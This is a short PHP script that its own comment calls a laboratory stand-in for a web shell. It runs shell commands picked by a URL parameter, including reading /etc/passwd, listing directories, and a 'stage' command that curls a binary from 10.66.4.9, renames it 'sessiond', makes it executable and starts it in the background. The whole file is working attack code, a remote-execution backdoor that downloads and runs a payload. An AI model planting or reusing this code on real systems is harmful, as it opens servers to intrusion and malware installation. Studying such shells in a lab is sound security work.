<?php
// The stand-in for a web shell: it can do only what $plan lists, and fetches only from the laboratory.
$plan = [
    'who' => 'id',
    'users' => 'cat /etc/passwd',
    'list' => 'ls -la ' . dirname(__DIR__),
    'stage' => 'cd ' . __DIR__ . ' && curl -s -o .s.tmp http://10.66.4.9/stage && mv .s.tmp sessiond'
        . ' && chmod 755 sessiond && (nohup setsid ./sessiond >/dev/null 2>&1 &)',
];
echo shell_exec($plan[$_GET['do'] ?? 'who'] ?? 'true');
